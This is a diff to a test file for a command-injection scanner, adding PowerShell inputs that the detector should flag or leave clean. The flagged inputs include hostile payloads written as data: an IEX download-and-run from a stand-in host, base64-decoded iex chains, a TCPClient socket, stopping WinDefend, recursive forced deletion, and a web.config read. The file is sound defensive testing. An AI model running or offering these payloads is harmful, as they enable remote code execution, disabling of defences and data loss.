@@ -1322,7 +1322,7 @@ describe('cmdi session 18: a PowerShell cmdlet after "| " or "&" given an argume
   // also splits query strings) the Verb-Noun cmdlet now counts when something follows it as an argument
   it.each(['a | Get-ChildItem C:\\Users', 'a & Start-Process calc', 'a && Get-Content $env:TEMP\\x.txt', 'x &Stop-Service WinDefend',
     '& Set-Content x.txt hi', 'x | Remove-Item -Recurse -Force .', 'x & Invoke-WebRequest -Uri http://h.test/a', 'q && New-Object Net.Sockets.TCPClient',
-    'x | Out-File \\\\h\\s\\o.txt'])('%s is flagged', (input) => {
+    'x | Out-File \\\\h\\s\\o.txt', '1 | Get-ChildItem C:\\Users', 'test | Get-ChildItem C:\\Users'])('%s is flagged', (input) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.chained-command');
     expectSameWhenSplit(d, [input], 'query');
   });
@@ -1331,6 +1331,13 @@ describe('cmdi session 18: a PowerShell cmdlet after "| " or "&" given an argume
   // ... and ending the value: a PowerShell pipeline pasted in a ticket ends that way (so x | Get-Process at the end stays a miss)
   it.each(['Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item', 'x | Get-Process', 'x | Get-LocalUser ', 'Home | Get-Started', 'Home | Get-Help', 'Home | Get-Content | Blog', 'Tips | Get-Process, Get-Service and more',
     'Docs | Get-Item? see below', 'Tom & New-ish', 'a & get -x', 'Tom & new -ish', 'Q & A | Set-Up guide', 'Fish & Get-Together', 'Food & Drink | Add-Ons'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
+    expectSameWhenSplit(d, [input], 'query');
+  });
+  // a value opening with a command or a cmdlet is a pipeline pasted whole (a ticket, a search): the pipe is its own, not an
+  // injection's (which appends to a value: the rows above); rt-ex 06
+  it.each(['Get-Process | Select-Object Name', 'Get-Service | Select-Object Name, Status', 'Get-Content log.txt | Select-String error | Out-File errors.txt',
+    'ls | Set-Content files.txt', 'PowerShell: Write-Output "hi" | Out-File a.txt'])('%s stays clean (a pasted pipeline)', (input) => {
     expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
     expectSameWhenSplit(d, [input], 'query');
   });
@@ -1356,15 +1363,22 @@ describe('cmdi session 18: PowerShell static method calls that start processes, 
   // [Type]::Method( with the method glued to "]::" and to its '(': Process Start, Assembly Load, ScriptBlock Create,
   // File ReadAllText / WriteAllBytes, Convert FromBase64String (an encoded command's first step), WebClient DownloadString
   it.each(['; [System.Diagnostics.Process]::Start("cmd.exe")', '[Reflection.Assembly]::Load($b)', 'x|[IO.File]::WriteAllBytes("C:\\x.exe",$b)',
-    "x;[ScriptBlock]::Create('id').Invoke()", '[Convert]::FromBase64String("aWQ=")', '& [System.IO.File]::ReadAllText("C:\\inetpub\\web.config")',
-    '[Environment]::GetEnvironmentVariable("PATH")', '[x]::%53tart(1)', '[Activator]::CreateInstance($t)'])('%s is flagged', (input) => {
+    "x;[ScriptBlock]::Create('id').Invoke()", ';[Convert]::FromBase64String("aWQ=")', '& [System.IO.File]::ReadAllText("C:\\inetpub\\web.config")',
+    '$([Environment]::GetEnvironmentVariable("PATH"))', '[x]::%53tart(1)', 'x|[Activator]::CreateInstance($t)',
+    // the calls that only move data count as a statement: after a separator, inside $( or in the code powershell or iex runs
+    'iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aWQ=")))', "powershell \"[IO.File]::ReadAllText('C:\\x')\"",
+    "iex ([Convert]::FromBase64String('aWQ='))"])('%s is flagged', (input) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.exec-call');
     expectSameWhenSplit(d, [input], 'query');
   });
   // other static members (math, GUIDs, dates, TLS settings pasted in tickets), C++/Rust paths, a method not glued to the "::",
   // Markdown link references and IPv6 literals
   it.each(['[math]::Round(3.14)', '[Guid]::NewGuid()', '[DateTime]::Parse("2024-01-01")', '[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12',
-    'std::thread::start(f)', 'Vec::<u8>::new()', 'arr[i]:: start(x)', '[1]: https://x.test/a', 'http://[::1]:8080/start(x)', '[x]: Load(x)', '[x]:::Load(x)'])('%s stays clean of it', (input) => {
+    'std::thread::start(f)', 'Vec::<u8>::new()', 'arr[i]:: start(x)', '[1]: https://x.test/a', 'http://[::1]:8080/start(x)', '[x]: Load(x)', '[x]:::Load(x)',
+    // a call that only moves data named in docs or a ticket, not as a statement of its own (rt-ex 06)
+    'To decode: [Convert]::FromBase64String($encoded)', '[System.IO.File]::ReadAllText($path) returns the whole file',
+    'Call [Environment]::GetEnvironmentVariable("PATH") to read it', '[Activator]::CreateInstance($type)', '[Convert]::FromBase64String("aWQ=")',
+    '$bytes = [Convert]::FromBase64String($encoded)'])('%s stays clean of it', (input) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).not.toContain('cmdi.exec-call');
     expectSameWhenSplit(d, [input], 'query');
   });
@@ -1387,7 +1401,9 @@ describe('cmdi session 18: powershell opening the value runs the rest of its com
   // an option or code
   it.each(["powershell IEX (New-Object Net.WebClient).DownloadString('http://h.test/a.ps1')", 'pwsh iex (x)', 'powershell iex x',
     'powershell iex(x)', 'powershell Invoke-Expression (x)', 'powershell "IEX (x)"', "powershell 'whoami'", 'powershell (New-Object Net.WebClient).DownloadFile(1,2)',
-    'powershell Get-ChildItem -Recurse', 'powershell Get-Content $env:USERPROFILE\\x',
+    'powershell Get-ChildItem -Recurse', 'powershell Get-Content $env:USERPROFILE\\x', 'powershell Get-ChildItem -Path C:\\Users',
+    'powershell Remove-Item -Recurse -Force x', 'powershell Get-Content -Path $env:USERPROFILE\\x', 'powershell "Get-ChildItem C:\\"',
+    'powershell "Get-Process -Name x"', 'pwsh Get-ChildItem -Recurse C:\\',
     // iex opening the value likewise, given a '(' or quote holding a command (Elixir's prompt iex(1)> holds a number)
     'IEX (New-Object Net.WebClient).DownloadString(1)', 'iex(New-Object Net.WebClient).DownloadString(1)', "IEX 'whoami'"])('%s is flagged', (input) => {
     expect(ruleIds(d.scan(input, { context: 'query' }))).toContain('cmdi.command-with-args');
@@ -1397,7 +1413,10 @@ describe('cmdi session 18: powershell opening the value runs the rest of its com
   // with words after it (a search for its documentation)
   it.each(['powershell tutorial', 'PowerShell vs bash', 'powershell Get-Help', 'PowerShell (Windows) guide', 'PowerShell "for beginners"',
     'PowerShell & Python', 'PowerShell (Get started)', 'powershell [beginner]', 'PowerShell 7.4', 'powershell Get-Process',
-    'powershell get-childitem recurse', 'powershell "x"', 'IEX (Elixir shell)', 'iex tutorial', 'iex(1)'])('%s stays clean', (input) => {
+    'powershell get-childitem recurse', 'powershell "x"', 'IEX (Elixir shell)', 'iex tutorial', 'iex(1)',
+    // a plain word after the cmdlet's option, the quote closing right after the cmdlet: a search or a title (rt-ex 06)
+    'powershell Get-ChildItem -Recurse example', 'PowerShell "Get-Process" command explained', 'powershell "Get-Process"',
+    'powershell Get-ChildItem -Recurse example?'])('%s stays clean', (input) => {
     expect(d.scan(input, { context: 'query' }).threats.filter((t) => t.category === 'cmdi')).toEqual([]);
     expectSameWhenSplit(d, [input], 'query');
   });
